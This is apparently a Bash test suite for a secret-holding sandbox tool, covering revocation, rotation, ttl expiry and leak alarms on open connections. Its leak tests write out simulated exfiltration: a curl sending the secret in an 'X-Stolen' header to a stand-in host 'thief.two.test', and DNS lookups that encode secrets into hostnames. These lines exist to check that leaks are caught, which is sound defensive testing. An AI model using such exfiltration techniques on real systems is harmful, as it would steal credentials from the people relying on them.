#!/bin/bash
# suite: test=user soak=root,user timeout=400
# tier: the keeper is the same for both users, so test runs it once
# custody_revoke.sh - the end of a secret while its box lives: revoked by hand, all at once, by the clock, by its own
# alarm; and a fresh value that nobody in the box can tell from the one before. Connections that are open count.
set -u
cd "$(dirname "$0")/.." || exit 1
. tests/lib.sh
. tests/lib_door.sh
door_needs custody_revoke curl openssl /usr/bin/python3
door_trial 'DNS:*.one.test,DNS:*.two.test'
cp tests/custody/hold.py tests/custody/waker.py "$work/ws/"
export ONE=fake-value-of-the-first-0001 TWO=fake-value-of-the-other-0002
count() { grep -ac "$2" "$work/seen/received-$1" 2>/dev/null || true; }
secret() { echo "$1 from env at *.one.test,*.two.test as bearer ${2:-}"; }

# revoke_box NAME FLAG...: a box that waits, with the rules for both origins.
revoke_box() {
	local name=$1
	shift
	door_box "$name" --allow "* *.one.test:443 to=127.0.0.1:$h1 ca=$work/ca.pem" \
		--allow "* *.two.test:443 to=127.0.0.1:$h2 ca=$work/ca.pem" "$@" >/dev/null
}
# get BOX URL VARIABLE: status and body.
get() {
	# shellcheck disable=SC2016
	in_box "$1" sh -c 'eval "v=\$$2"; curl -s -m 60 -w " %{http_code}" -H "Authorization: Bearer $v" "$1"' sh "$2" "$3"
}

# hold_open ID BOX KIND HOST VARIABLE: a connection that stays; ask ID PATH asks on it, and the answer is $answer.
declare -A to_fd from_fd
hold_open() {
	mkfifo "$work/$1.in" "$work/$1.out"
	timeout -k 2 600 "$ostiary" exec "$2" -- /usr/bin/python3 hold.py "$3" "$4" "$5" <"$work/$1.in" >"$work/$1.out" 2>"$work/$1.err" &
	door_pids+=($!)
	exec {fd}>"$work/$1.in"
	to_fd[$1]=$fd
	exec {fd}<"$work/$1.out"
	from_fd[$1]=$fd
}
ask_only() { echo "$2" >&"${to_fd[$1]}"; }
hear() {
	answer=
	read -r -t 150 answer <&"${from_fd[$1]}" || answer="no answer: $(cat "$work/$1.err")"
}
ask() {
	ask_only "$1" "$2"
	hear "$1"
}
let_go() {
	local to=${to_fd[$1]} from=${from_fd[$1]}
	exec {to}>&-
	exec {from}<&-
}

# --- one by name, on connections that are open ------------------------------------------------------

revoke_box r1 --secret "$(secret ONE)" --secret "$(secret TWO)"
hold_open a r1 h1 a.one.test ONE
hold_open b r1 h2 b.two.test ONE
hold_open other r1 h1 c.one.test TWO
ask a /1
holds "before: an open connection is served" "$answer" "200 ok"
ask b /1
holds "before: HTTP/2 too" "$answer" "200 ok"
ask other /1
holds "before: the other secret too" "$answer" "200 ok"
same "the origin saw the value" "$(count a.one.test "$ONE")" 1

hold_open held r1 h1 held.one.test ONE
hold_open held2 r1 h2 held.two.test ONE
ask_only held /hold
ask_only held2 /hold
within 60 grep -aqs "$ONE" "$work/seen/received-held.one.test"
check "a request is under way" $?
within 60 grep -aqs "$ONE" "$work/seen/received-held.two.test"
check "and one on HTTP/2" $?

got=$("$ostiary" revoke r1 ONE 2>&1)
same "revoke says so" "$got" "r1: ONE revoked"
touch "$work/seen/go"
hear held
case $answer in 200*) false ;; *) true ;; esac
check "what was under way is cut" $? "$answer"
hear held2
case $answer in 200*) false ;; *) true ;; esac
check "on HTTP/2 too" $? "$answer"
rm -f "$work/seen/go"

# The connection may have been closed; the request is then on a new one, and fails all the same.
for id in a b; do
	ask "$id" /2
	[ "$answer" != closed ] || ask "$id" /2
	holds "$id: the next request fails" "$answer" "403"
	holds "$id: with a clear reason" "$answer" "ONE was revoked"
done
same "the origin sees no more of it" "$(count a.one.test "$ONE"; count b.two.test "$ONE")" "$(printf '1\n1')"
ask other /2
holds "the other secret is served on" "$answer" "200 ok"
holds "a new connection is told the same" "$(get r1 https://d.one.test/ ONE)" "403"
got=$("$ostiary" secrets r1)
holds "the list says which" "$(grep ONE <<<"$got")" "revoked"
holds "and which not" "$(grep TWO <<<"$got")" "held"
same "once more is no error" "$("$ostiary" revoke r1 ONE 2>&1)" "r1: ONE revoked"
holds "it cannot be rotated back" "$(echo "$ONE" | "$ostiary" rotate r1 ONE - 2>&1)" "was revoked in this box"
got=$("$ostiary" revoke r1 NOBODY 2>&1)
same "a name that is not there is an error" "$? $got" "121 ostiary: this box has no secret \"NOBODY\" (ostiary secrets r1 lists them)"
"$ostiary" revoke r1 >/dev/null 2>&1
same "a name or --all is wanted" $? 64
"$ostiary" revoke r1 TWO --all >/dev/null 2>&1
same "and not both" $? 64
holds "the log tells of the revocation" "$("$ostiary" log r1 --json 2>&1)" '"note":"revoked"'
! "$ostiary" log r1 --json 2>&1 | grep -q fake-value
check "and shows no value" $?
for id in a b other held held2; do let_go "$id"; done
"$ostiary" rm -f r1 >/dev/null

# --- all of them ------------------------------------------------------------------------------------

revoke_box r2 --secret "$(secret ONE)" --secret "$(secret TWO)"
holds "before --all: one" "$(get r2 https://e.one.test/ ONE)" "200"
holds "before --all: two" "$(get r2 https://e.one.test/ TWO)" "200"
same "--all says how many" "$("$ostiary" revoke r2 --all 2>&1)" "r2: all revoked (2)"
holds "after: one" "$(get r2 https://e.one.test/ ONE)" "403"
holds "after: two" "$(get r2 https://e.one.test/ TWO)" "403"
"$ostiary" rm -f r2 >/dev/null
door_box r3 >/dev/null
same "--all of a box without secrets is nothing" "$("$ostiary" revoke r3 --all 2>&1)" "r3: all revoked (0)"
same "and its list is empty" "$("$ostiary" secrets r3)" "this box has no secrets"
"$ostiary" rm -f r3 >/dev/null

# --- a fresh value ----------------------------------------------------------------------------------

printf 'fake-value-before-rotation-03' >"$work/value"
chmod 600 "$work/value"
revoke_box r4 --secret "KEY from file $work/value at *.one.test as bearer" --secret "$(secret ONE)" \
	--secret "COUNTED from cmd 'date +fake-value-%s-%N' at *.one.test as bearer refresh=1s"
hold_open k r4 h1 k.one.test KEY
ask k /1
holds "rotate: before" "$answer" "200 ok"
before=$(in_box r4 printenv KEY)
printf 'fake-value-after-rotation-0004' >"$work/value"
same "rotate asks the source again" "$("$ostiary" rotate r4 KEY 2>&1)" "r4: KEY has a fresh value"
ask k /2
holds "rotate: the open connection is served on" "$answer" "200 ok"
same "rotate: the origin sees the new value" "$(count k.one.test fake-value-after-rotation-0004)" 1
same "rotate: and the old one once" "$(count k.one.test fake-value-before-rotation-03)" 1
same "rotate: the box has the same placeholder" "$(in_box r4 printenv KEY)" "$before"
same "rotate: from standard input" "$(echo fake-value-by-hand-00000005 | "$ostiary" rotate r4 KEY - 2>&1)" "r4: KEY has a fresh value"
ask k /3
same "rotate: which the origin sees" "$(count k.one.test fake-value-by-hand-00000005)" 1
got=$(printf 'fake\rvalue-with-cr' | "$ostiary" rotate r4 KEY - 2>&1)
case $got in "ostiary: "*) true ;; *) false ;; esac
check "rotate: a value that is no good is refused" $? "$got"
ask k /4
same "rotate: and the one before stays" "$(count k.one.test fake-value-by-hand-00000005)" 2
"$ostiary" rotate r4 KEY - </dev/null >/dev/null 2>&1
[ $? -ne 0 ]
check "rotate: nothing is no value" $?
"$ostiary" rotate r4 KEY fake-value-as-argument >"$work/err" 2>&1
same "rotate: a value is never an argument" $? 64
holds "rotate: a variable cannot be asked again" "$("$ostiary" rotate r4 ONE 2>&1)" "cannot be asked again"
rm "$work/value"
holds "rotate: a source that is gone is told" "$("$ostiary" rotate r4 KEY 2>&1)" "cannot be read"
let_go k
fresh() {
	get r4 https://f.one.test/ COUNTED >/dev/null
	[ "$(grep -ao 'fake-value-[0-9]*-[0-9]*' "$work/seen/received-f.one.test" | sort -u | wc -l)" -ge 2 ]
}
within 60 fresh
check "refresh= asks the source again by the clock" $?
"$ostiary" rm -f r4 >/dev/null

# --- ttl= -------------------------------------------------------------------------------------------

revoke_box r5 --secret "$(secret ONE ttl=4s)" --secret "$(secret TWO)"
hold_open t r5 h1 t.one.test ONE
expired() {
	ask t /x
	case $answer in *"ONE has expired"*) true ;; *) false ;; esac
}
within 60 expired
check "after its ttl= the answer says expired" $? "$answer"
holds "and is a refusal" "$answer" "403"
holds "the list says so" "$("$ostiary" secrets r5 | grep ONE)" "expired"
holds "others are served on" "$(get r5 https://t.one.test/ TWO)" "200"
let_go t
"$ostiary" rm -f r5 >/dev/null

# --- the keeper's end is the box's ------------------------------------------------------------------

revoke_box r6 --secret "$(secret ONE)"
supervisor=$("$ostiary" ps --json | python3 -c 'import json, sys; d = json.load(sys.stdin)["data"]; print([b for b in (d if isinstance(d, list) else d["boxes"]) if b["id"] == "r6"][0]["supervisor_pid"])')
keeper=$(for p in $(cat "/proc/$supervisor/task/$supervisor/children"); do grep -qs keeper "/proc/$p/comm" && echo "$p"; done)
[ -n "$keeper" ]
check "a box with a secret has a keeper before its first connection" $? "$(cat "/proc/$supervisor/task/$supervisor/children")"
kill -9 "$keeper"
within 60 is_not_running r6
check "when it is killed the box is stopped" $? "$("$ostiary" ps)"
"$ostiary" rm -f r6 >/dev/null
revoke_box r7
supervisor=$("$ostiary" ps --json | python3 -c 'import json, sys; d = json.load(sys.stdin)["data"]; print([b for b in (d if isinstance(d, list) else d["boxes"]) if b["id"] == "r7"][0]["supervisor_pid"])')
children() { for p in $(cat "/proc/$supervisor/task/$supervisor/children"); do cat "/proc/$p/comm"; done >"$work/children" 2>/dev/null; }
has_audit() { children && grep -q audit "$work/children"; }
within 60 has_audit
grep -q audit "$work/children" && ! grep -q keeper "$work/children"
check "one without has a log and no keeper" $? "$(cat "$work/children")"
"$ostiary" rm -f r7 >/dev/null

# --- leak= ------------------------------------------------------------------------------------------

# leaked FLAG...: show the placeholder to a host that it is not for.
leak='curl -s -m 60 -H "X-Stolen: $ONE" https://thief.two.test/ >/dev/null'
one() { echo "ONE from env at *.one.test as bearer $1"; }
leaking() { # NAME OPTIONS COMMAND
	(cd "$work/ws" && timeout -k 2 200 "$ostiary" run -q --keep -n "$1" --level strict \
		--allow "* *.one.test:443 to=127.0.0.1:$h1 ca=$work/ca.pem" --allow "* *.two.test:443 to=127.0.0.1:$h2 ca=$work/ca.pem" \
		--secret "$(one "$2")" -- sh -c "$3" 2>"$work/$1.err")
}
code='curl -s -m 60 -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $ONE" https://g.one.test/'
got=$(leaking l1 '' "$leak; $code")
same "alarm: the box goes on" "$got" 200
holds "alarm: whoever is attached is told" "$(cat "$work/l1.err")" "alarm: "
holds "alarm: and again at the end" "$(cat "$work/l1.err")" "1 alarm while the box ran"
same "alarm: nothing arrived" "$(grep -acs X-Stolen "$work/seen/received-thief.two.test")" ""
holds "alarm: the log has it" "$("$ostiary" log l1 --json)" '"kind":"alarm"'
"$ostiary" rm -f l1 >/dev/null
# The alarm is on its way to the keeper when the leak has its answer.
got=$(leaking l2 leak=revoke "$leak; i=0; while [ \$i -lt 500 ] && [ \"\$($code)\" = 200 ]; do i=\$((i + 1)); sleep 0.2; done; $code")
same "revoke: the secret is gone" "$got" 403
holds "revoke: which is told" "$(cat "$work/l2.err")" "leak=revoke"
"$ostiary" rm -f l2 >/dev/null
leaking l3 leak=kill "$leak; sleep 150; echo survived" >"$work/l3.out"
[ ! -s "$work/l3.out" ]
check "kill: the box is ended" $? "$(cat "$work/l3.out")"
holds "kill: in a sentence" "$(cat "$work/l3.err")" "leak=kill"
"$ostiary" rm -f l3 >/dev/null 2>&1
# Names that are looked up: a decoy of one secret in front of the other's hides nothing, nor does a name that holds both.
letters='p() { printf %s "$1" | tr -dc A-Za-z0-9; }; '
looking() { # NAME NAMES: ONE only tells, TWO ends the box
	(cd "$work/ws" && timeout -k 2 200 "$ostiary" run -q --keep -n "$1" --level strict --secret "$(one "")" \
		--secret "TWO from env at *.two.test as bearer leak=kill" -- sh -c "$letters getent hosts $2; sleep 150; echo survived" 2>"$work/$1.err")
}
# shellcheck disable=SC2016
for how in 'decoys:"$(p "$ONE").a.test" "$(p "$ONE").b.test" "$(p "$TWO").c.test"' 'both:"$(p "$ONE").$(p "$TWO").d.test"'; do
	name=l5-${how%%:*}
	looking "$name" "${how#*:}" >"$work/$name.out"
	[ ! -s "$work/$name.out" ]
	check "$name: the box is ended" $? "$(cat "$work/$name.out")"
	holds "$name: in a sentence" "$(cat "$work/$name.err")" "leak=kill"
	got=$("$ostiary" log "$name" --json | grep '"kind":"alarm"')
	holds "$name: the log has the one" "$got" "secret ONE "
	holds "$name: and the other" "$got" "secret TWO "
	[ "$name" != l5-decoys ] || holds "$name: each name of the one" "$got" ".b.test"
	"$ostiary" rm -f "$name" >/dev/null 2>&1
done
leaking l4 leak=pause "$leak; n=0; until [ -e enough ]; do n=\$((n + 1)); echo \$n; sleep 0.1; done; echo went on" >"$work/l4.out" &
pausing=$!
paused() { grep -qs leak=pause "$work/l4.err"; }
within 60 paused
check "pause: whoever is attached is told how to go on" $? "$(cat "$work/l4.err")"
# The leak has its answer before everything is stopped: so it may have counted a little.
is_still() {
	local before
	before=$(wc -l <"$work/$1.out")
	sleep 2
	[ "$before" = "$(wc -l <"$work/$1.out")" ]
}
within 60 is_still l4
check "pause: nothing goes on" $? "$(tail -n 3 "$work/l4.out")"
same "pause: ps says so" "$("$ostiary" ps --json | python3 -c 'import json, sys
print(*[b["state"] for b in json.load(sys.stdin)["data"] if b["id"] == "l4"])')" paused
holds "pause: in words, too" "$("$ostiary" ps)" paused
in_box l4 sh -c 'kill -CONT -1' >/dev/null 2>&1
within 60 is_still l4
check "pause: a command beside does not wake the rest for good" $? "$(tail -n 3 "$work/l4.out")"
same "pause: whoever wakes is shown no key" "$(in_box l4 sh -c "$code" 2>/dev/null)" 403
holds "pause: and the log says why" "$("$ostiary" log l4 --json)" "the box is paused"
in_box l4 touch enough >/dev/null 2>&1
"$ostiary" resume l4 -- true 2>"$work/l4.said"
same "pause: resume with a command is refused" "$?" 122
holds "pause: with what does go" "$(cat "$work/l4.said")" "box l4 is paused: ostiary resume l4 lets it go on"
"$ostiary" resume l4 2>"$work/l4.said"
check "pause: resume lets it go on" $? "$(cat "$work/l4.said")"
wait "$pausing"
same "pause: until somebody says so" "$(tail -n 1 "$work/l4.out")" "went on"
"$ostiary" rm -f l4 >/dev/null 2>&1
# One that has arranged to be woken: timers that send SIGCONT all the time, and somebody who forks and ends.
leaking l6 leak=pause "$leak; exec /usr/bin/python3 waker.py" >"$work/l6.out" &
pausing=$!
within 60 grep -qs leak=pause "$work/l6.err"
within 60 is_still l6
check "pause: no signal that it arranged wakes it" $? "$(tail -n 3 "$work/l6.out")"
same "pause: a command beside runs" "$(in_box l6 echo served 2>&1)" served
in_box l6 sh -c 'kill -CONT -1' >/dev/null 2>&1
within 60 is_still l6
check "pause: and wakes nobody" $? "$(tail -n 3 "$work/l6.out")"
in_box l6 sh -c 'touch up; until [ -e down ]; do sleep 0.1; done; echo until the end' >"$work/l6.beside" 2>&1 &
beside=$!
within 60 in_box l6 test -e up
in_box l6 touch down
within 60 grep -q 'until the end' "$work/l6.beside"
check "pause: of two commands beside, the end of one does not stop the other" $? "$(cat "$work/l6.beside")"
in_box l6 touch enough >/dev/null 2>&1
"$ostiary" resume l6 2>"$work/l6.said"
check "pause: resume lets it go on all the same" $? "$(cat "$work/l6.said")"
wait "$pausing" "$beside"
same "pause: all of it" "$(tail -n 1 "$work/l6.out")" "went on"
"$ostiary" rm -f l6 >/dev/null 2>&1
leaking l7 leak=pause "$leak; exec /usr/bin/python3 waker.py" >"$work/l7.out" &
pausing=$!
within 60 grep -qs leak=pause "$work/l7.err"
within 60 is_still l7
timeout 100 "$ostiary" stop --time 0 l7 >/dev/null 2>"$work/l7.said"
check "pause: stop ends it" $? "$(cat "$work/l7.said")"
wait "$pausing"
"$ostiary" rm -f l7 >/dev/null 2>&1
exit $bad
